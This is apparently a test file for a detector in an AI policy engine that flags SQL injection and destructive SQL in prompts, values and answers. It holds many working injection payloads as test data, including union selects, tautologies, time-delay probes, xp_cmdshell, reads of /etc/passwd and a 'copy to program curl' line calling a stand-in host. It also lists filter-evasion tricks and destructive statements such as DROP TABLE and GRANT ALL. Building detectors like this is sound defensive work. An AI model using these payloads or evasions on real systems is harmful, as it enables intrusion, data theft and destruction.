"""What attacks and what destroys by SQL, in prompts, in values and in answers; and what is only
said of it."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from axonflow_core.config.values import PoliciesConfig
from axonflow_core.frozen import evolve
from axonflow_core.policy.detectors.kinds import Kind, behind_open_quote, finder_of
from axonflow_core.policy.engine import Policy
from axonflow_core.policy.rules import Mode, Phase, Severity, Verdict
from axonflow_core.policy.views import View

from .sql_answers import sql_answers

DANGER = "dangerous_statement"
PROSE = "Please look up what we agreed on {} and send me a summary by Friday."


@pytest.fixture(scope="module")
def policy() -> Policy:
    return Policy.build(PoliciesConfig())


def found(
    policy: Policy, text: str, mode: Mode = Mode.PROMPT, type: str = "sql_injection"
) -> list[str]:
    """The words of every finding of that type."""
    phase = Phase.ANSWER if mode is Mode.ANSWER else Phase.REQUEST
    findings = policy.evaluate(phase, {"text": text}, {"text": mode}).findings
    return [text[each.start : each.end] for each in findings if each.rule == type]


ATTACKS = [
    # a second query
    "-1 union select null, version()",
    "1 UNION ALL SELECT 1,2,3--",
    "x' union select login, password from users --",
    "1e0union select 1,2",
    "1 union(select(table_name)from information_schema.tables)",
    "1 union distinct select @@version",
    "1 union values row(1,2,3)",
    # a condition of constants
    "x' or 1=1",
    "x') or ('a'='a",
    '" or ""="',
    "x' or 'a' like 'a",
    "x' or 2 between 1 and 3 --",
    "x'||1=1",
    "x' xor 1=1 #",
    "id=5 AND 1083=1083",
    "5 or 1=1",
    "'or(1)=(1)",
    "1or1=1",
    "fake@ema'or'il.nl'='il.nl",
    "5) WHERE 3120=3120 AND (1=1",
    "1 group by x having 1=1",
    "5 OR x=x",
    '1" or 2+7-8=1 --',
    "x' or 1 is not null #",
    # a condition on columns
    "x' and email is null; --",
    "x' or uid like '%",
    "x' or user_name() = 'dbo",
    # a query in parentheses
    "x' and (select length(password) from users where name='admin')>5--",
    "1 AND (SELECT 1 WHERE current_user='postgres')=1",
    "x'||(select '' from dual)||'",
    "1'-(select 1)-'",
    # probes
    "1 and exp(~(select * from (select user())a))",
    "x' and database_to_xml(true,true,'')::text like '%pass",
    "1 and ascii(substring((select top 1 name from t), 1, 1)) > 116",
    "1 AND 1=(SELECT COUNT(*) FROM tabname)",
    "x' and extractvalue(1, concat(0x7e, version()))",
    "1 and (select 1 from(select count(*),concat(0x71,floor(rand(0)*2))x from t group by x)a)",
    "case when (4518=4518) then 1 else 0 end",
    "1,iif(2510=9436,1,1/0)",
    "CHAR(113)+CHAR(106)+CHAR(122)",
    "CHR(113)||CHR(106)",
    # functions that wait, read or run
    "1; waitfor delay '0:0:5'",
    "1 and sleep(5)",
    "1 order by sleep(5)",
    "' || pg_sleep(5) --",
    "' || (select 'x' from pg_sleep(5)) || '",
    "if(1=1, benchmark(5000000, md5(1)), 0)",
    "1 and 1=dbms_pipe.receive_message('a', 5)",
    "load_file('/etc/passwd')",
    "1 into outfile '/var/www/x.php'",
    "' || utl_http.request('http://x.example') || '",
    "; exec master..xp_cmdshell 'dir'",
    # a statement behind the first
    "x'; drop table users; --",
    "1; DROP TABLE users",
    "x'; update users set admin = 1 --",
    "x'; declare @s varchar(99) set @s = 'a'",
    "1; shutdown with nowait",
    "1;TRUNCATE audit--",
    "1; load data infile '/etc/hosts' into table t",
    "1; attach database '/var/www/x.php' as lol",
    "'; copy (select '') to program 'curl http://x.example' --",
    "1;select * from openrowset('sqloledb', '')",
    # the rest as a comment
    "admin'--",
    "admin' /*",
    "5 order by 12--",
    "1' limit 1 offset 1 --",
    # hidden keywords
    "1 uni/**/on sel/**/ect null",
    "0x730065006c0065006300740020004000400076006500720073006900 exec(@q)",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", PROSE, "Report\n{}\n"], ids=["alone", "prose", "lines"])
def test_an_attack_is_found_alone_and_in_prose(policy: Policy, attack: str, frame: str) -> None:
    text = frame.format(attack)
    assert policy.evaluate(Phase.REQUEST, {"text": text}).verdict is Verdict.BLOCKED
    words = found(policy, text)
    assert words
    assert all(len(each) <= len(attack) + 12 for each in words)


EVASIONS = {
    "comments": lambda attack: attack.replace(" ", "/**/"),
    "long comments": lambda attack: attack.replace(" ", f"/*{'x' * 3_000}*/"),
    "tabs": lambda attack: attack.replace(" ", "\t"),
    "line breaks": lambda attack: attack.replace(" ", "\r\n"),
    "plus": lambda attack: attack.replace(" ", "+"),
    "encoded line breaks": lambda attack: attack.replace(" ", "%0a"),
    "upper case": str.upper,
    "mixed case": lambda attack: "".join(
        one.upper() if number % 2 else one for number, one in enumerate(attack)
    ),
    "version comments": lambda attack: attack.replace("union", "/*!50000union*/").replace(
        "or", "/*!or*/"
    ),
    "line comments": lambda attack: attack.replace("union ", "union--x\n"),
    "padded": lambda attack: "lorem ipsum " * 20_000 + attack,
}


@pytest.mark.parametrize("evasion", EVASIONS)
@pytest.mark.parametrize(
    "attack", ["1 union select 1,2,3", "x' or 1=1 -- ", "x' and sleep(5) -- ", "5 or 'a'='a'"]
)
def test_an_attack_is_found_however_it_is_written(
    policy: Policy, attack: str, evasion: str
) -> None:
    assert found(policy, EVASIONS[evasion](attack))


FRAGMENTS = [
    "or x=y#",
    " AND 1=0",
    " or true",
    "' or 2 > 1",
    "') order by 7",
    "'-'",
    "a' || 'b",
    "x' like 'x",
    "1--",
    "@@version--",
    "(select id from users limit 1,1)",
    "select @@version",
    "select pg_sleep(5)",
    "exec sp_who",
]


@pytest.mark.parametrize("fragment", FRAGMENTS)
def test_a_fragment_is_an_attack_where_a_text_is_nothing_else(
    policy: Policy, fragment: str
) -> None:
    assert found(policy, fragment)


@pytest.mark.parametrize("value", ["'; exec(@a)", "'\\\"", "||'6", "x' or not y"])
def test_some_values_are_attacks_that_a_prompt_is_not(policy: Policy, value: str) -> None:
    assert found(policy, value, Mode.PARAMETER)


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "it's",
        "'quoted'",
        '"',
        "rock'n'roll",
        "5'11\"",
        "AT&T",
        "a or b",
        "-5",
        "#3",
        "user@example.com",
        "C++ and C#",
        "SELECT name FROM users WHERE city = 'Paris' OR city = 'Rome' ORDER BY name",
        "WHERE status = 'open'",
        "where id in (17, 18)",
        "if x == 'a' or y == 'b':\n    return x\n",
        "curl https://api.example.com/v1/users | jq .name",
        '{"sql": "select 1", "note": "a and b"}',
    ],
)
def test_a_usual_value_is_no_attack(policy: Policy, value: str) -> None:
    for type in ("sql_injection", "dangerous_statement", "dangerous_command"):
        assert found(policy, value, Mode.PARAMETER, type) == []


NATURAL = [
    "The trade union select committee met members from each branch.",
    "Do you want 'yes' or 'no'? The students' choice is 'no'.",
    "Is x = 5 or 6? If 2 + 2 = 4 and 4 - 1 = 3, then y = 1.",
    "Using 'str' or 'int' or None is fine; if you have \"on\" or \"off\", say so.",
    "if name == 'a' or name == 'b': time.sleep(5)  # wait",
    "SELECT name FROM users WHERE city = 'Paris' OR city = 'Rome' ORDER BY name;",
    "SELECT a FROM t UNION ALL SELECT b FROM u ORDER BY 1;",
    "SELECT a || ' ' || (SELECT b FROM u) FROM t WHERE x = 1 AND (SELECT COUNT(*) FROM u) > 3",
    "SELECT a FROM t INTO OUTFILE '/tmp/a.csv' FIELDS TERMINATED BY ','",
    "LOAD DATA INFILE 'a.csv' INTO TABLE t; COPY t TO '/tmp/t.csv' CSV HEADER",
    "UPDATE t SET a = 1 WHERE b = 2 AND (SELECT MAX(c) FROM u) > 5",
    "The office has 3 and 4 * 2 = 8 desks, 5' and 2 * 3 more; union values matter.",
    "INSERT INTO a (x) VALUES (1);\nUPDATE b SET y = 2 WHERE id = 3;",
    "What does ORDER BY 1 mean? I sort the rows by the first column.",
    'The --use-client-spec option; "--force" does nothing -- or nearly.',
    "Don't -- and I mean it -- touch the dogs' bowls -- or the cats'.",
    "We grant access to all staff, and the board will grant all on site staff a day off.",
    "How does the DROP TABLE statement work? TRUNCATE TABLE is faster, and keeps the table.",
    "Drop the table by the window; delete from your list what you do not need.",
    "We plan to drop database support, and schema checks too.",
    "Update the firmware and set the mode; delete from the list what is old.",
    "if len(opener) == 1 and len(closer) == 1 or len(number) < 4 and not hex(5):\n    pass",
    "if tag.startswith('!') and len(tag) > 1: boundary = b'---'; print(f\"-- {tag}\")",
    'cursor.execute("insert into lang values (?, ?)", ("C", 1972))\n\n# and another',
    'conn.scalar("select 1 from dual")  # a comment\nconn.close(); exit()',
    "words = ('and', 'or', 'in', '||', '<>'); a = x != b'p' or y != 'q'; after(\"w\") || null;",
    "if (name eq 'DESTROY' or substr($a, 1) && (-1 != index($b, \"n\") || -1 != 2);\nif (0 == 1)",
    "require('child_process');\nexec('ls *.js')",
    "# Select\nHere is a heading.\n# Update\nAnd another -- with dashes.\n",
]


@pytest.mark.parametrize("text", NATURAL)
@pytest.mark.parametrize("mode", [Mode.PROMPT, Mode.ANSWER, Mode.PARAMETER])
def test_what_people_write_is_no_attack(policy: Policy, text: str, mode: Mode) -> None:
    assert found(policy, text, mode) == []
    assert found(policy, text, mode, DANGER) == []


DANGERS = [
    "drop table customers",
    "DROP TABLE IF EXISTS a.b",
    "drop schema public cascade",
    "TRUNCATE TABLE audit",
    "TRUNCATE audit;",
    "delete from orders;",
    "DELETE FROM orders",
    "update users set admin = 1;",
    "ALTER TABLE users DROP COLUMN email",
    "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
    "grant select, insert on t to bob",
    "CREATE USER eve IDENTIFIED BY 'x'",
]


@pytest.mark.parametrize("text", DANGERS)
@pytest.mark.parametrize("mode", [Mode.PROMPT, Mode.PARAMETER, Mode.ANSWER, Mode.SQL])
def test_a_statement_that_destroys_is_found(policy: Policy, text: str, mode: Mode) -> None:
    assert found(policy, text, mode, DANGER)


@pytest.mark.parametrize("text", ["please run DROP DATABASE shop now", "Run DELETE FROM orders"])
def test_an_order_to_destroy_is_found(policy: Policy, text: str) -> None:
    assert found(policy, text, type=DANGER)


def test_an_answer_may_show_what_it_explains(policy: Policy) -> None:
    for answer in sql_answers():
        decision = policy.evaluate(Phase.ANSWER, {"answer": answer})
        assert not decision.is_stopped, answer


def test_an_answer_that_is_an_attack_and_shows_none_is_stopped(policy: Policy) -> None:
    """The control of the test above."""
    assert found(policy, "x' UNION SELECT password FROM users --", Mode.ANSWER)
    assert found(policy, "Run `ls`, then x' OR 1=1 -- in `psql`.", Mode.ANSWER)
    assert found(policy, "```sql\nSELECT 1;\n```\nDROP TABLE users;", Mode.ANSWER, DANGER)


def test_an_injection_is_critical_and_a_danger_is_grave(policy: Policy) -> None:
    decision = policy.evaluate(Phase.REQUEST, {"text": "x' or 1=1; DROP TABLE users"})
    assert {each.rule: each.severity for each in decision.findings} == {
        "sql_injection": Severity.CRITICAL,
        DANGER: Severity.HIGH,
    }


# ── pieces and comments ───────────────────────────────────────────────────────────────────────────

QUERY = Kind(pattern=r"x=\d+", hint="x=")
QUOTED = Kind(pattern=r"'[\s]*or\b", hint="'", accept=behind_open_quote)


@given(st.integers(0, 20_000), st.integers(0, 20_000))
def test_a_hint_far_in_a_text_leads_to_what_stands_there(before: int, behind: int) -> None:
    text = "." * before + "x=12" + "." * behind
    assert finder_of([QUERY])(View(text.encode())) == [(before, before + 4)]


def test_a_text_with_many_hints_is_searched_whole() -> None:
    text = ("." * 3_000 + "x=1") * 40
    spans = finder_of([QUERY])(View(text.encode()))
    assert [text[start:end] for start, end in spans] == ["x=1"] * 40


def test_a_string_that_opens_before_a_piece_is_seen_as_such() -> None:
    """A piece begins between the quotes, or before them; either way the second one closes."""
    for padding in range(400, 700):
        text = "a" * 5_000 + " '" + "b" * 100 + "' or " + "c" * padding + "'"
        assert finder_of([QUOTED])(View(text.encode())) == []


@pytest.mark.parametrize("offset", range(-14, 4, 2))
def test_an_attack_at_the_border_of_two_large_pieces_is_found_once(offset: int) -> None:
    """The text is full of hints, and so searched 131,072 bytes at a time."""
    place = 131_072 + offset
    text = f"{'union,' * (place // 6 + 1)}"[:place] + " union select " + "union," * 30_000
    spans = finder_of([Kind(pattern=r"union\s+select", hint="union")])(View(text.encode()))
    assert spans == [(place + 1, place + 13)]


def test_a_flood_of_candidates_counts_as_an_attack_to_its_end() -> None:
    text = b"'a' or b " * 10_000
    assert finder_of([QUOTED])(View(text))[-1][1] == len(text)


def test_the_effort_of_a_text_is_for_all_kinds_together() -> None:
    """Either kind alone refuses half of what may be refused of a text of a megabyte or less."""
    both = [QUOTED, evolve(QUOTED, pattern=r"'\s*and", hint=r"'\s*and")]
    text = b"'a' or b 'a' and b " * 2_500
    assert [finder_of([kind])(View(text)) for kind in both] == [[], []]
    assert finder_of(both)(View(text))[-1][1] == len(text)
    longer = text + b"of a text of two megabytes twice as much is; " * 45_000
    assert finder_of(both)(View(longer)) == []


def test_what_is_found_before_a_flood_is_found_all_the_same() -> None:
    quiet, flood = b"then union select and on; " * 10, b"'a' or b " * 10_000
    query = Kind(pattern=r"union\s+select", hint="union")
    spans = finder_of([QUOTED, query])(View(quiet + flood))
    assert len(spans) == 11
    assert spans[-1][1] == len(quiet + flood)


def test_of_a_hundred_kilobytes_of_conditions_that_say_nothing_nothing_is_found(
    policy: Policy,
) -> None:
    text = "".join(
        f"rows and {number}=9, columns with 'a' or 'b';\n" for number in range(10, 2_500)
    )
    assert len(text) > 100_000
    assert found(policy, text) == []


@pytest.mark.parametrize("length", [0, 600, 10_000])
def test_a_query_goes_on_behind_a_comment_of_any_length(length: int) -> None:
    kind = Kind(pattern=r"'\s*union\s+select", hint="union")
    text = "words " * 5_000 + "x' --" + "c" * length + "\nunion select"
    ((start, end),) = finder_of([kind])(View((text + " words" * 5_000).encode()))
    assert (start, end) == (text.index("'"), len(text))
    assert finder_of([kind])(View(text.replace("--", "==").encode())) == []


@given(st.lists(st.sampled_from(["x=", "1", "/*", "*/", "/*!5", " ", "\n", "#", "é"]), max_size=20))
def test_comments_become_blanks_in_their_places(pieces: list[str]) -> None:
    text = "".join(pieces)
    for start, end in finder_of([QUERY])(View(text.encode())):
        words = text.encode()[start:end]
        assert words.startswith(b"x=")
        assert 0 <= start < end <= len(text.encode())


def spans_of(text: str) -> Iterator[str]:
    kind = Kind(pattern=r"union\s+select", hint="union")
    for start, end in finder_of([kind])(View(text.encode())):
        yield text.encode()[start:end].decode()


@pytest.mark.parametrize(
    "text",
    ["union/*é*/select", "union /*!50000select*/ 1", "union--x\nselect", "union/*/**/select"],
)
def test_a_comment_stands_for_a_blank(text: str) -> None:
    (words,) = spans_of(text)
    assert words.startswith("union")
    assert words.endswith("select")


@pytest.mark.parametrize(
    "frame", ["Bad: `{}`, as it is.", "```sql\n{}\n```\nThat is all.", "| `{}` |"]
)
def test_a_statement_of_an_answer_is_where_it_begins(policy: Policy, frame: str) -> None:
    text = frame.format("UPDATE users SET active = 0")
    decision = policy.evaluate(Phase.ANSWER, {"answer": text})
    assert decision.findings == ()
    assert policy.evaluate(Phase.ANSWER, {"answer": text.replace("`", "")}).is_stopped


@pytest.mark.parametrize("depth", range(3))
@pytest.mark.parametrize("program", ['x = "a" and y = "b"', "x = 'a' and y = 'b'"])
def test_a_condition_of_a_program_is_none_in_json(policy: Policy, program: str, depth: int) -> None:
    for _ in range(depth):
        program = json.dumps({"cell": program})
    assert policy.evaluate(Phase.REQUEST, {"result": program}).findings == ()


@pytest.mark.parametrize("depth", range(3))
def test_an_injection_is_one_in_json(policy: Policy, depth: int) -> None:
    text = "admin' or name = 'b"
    for _ in range(depth):
        text = json.dumps({"user": text})
    assert policy.evaluate(Phase.REQUEST, {"result": text}).is_stopped
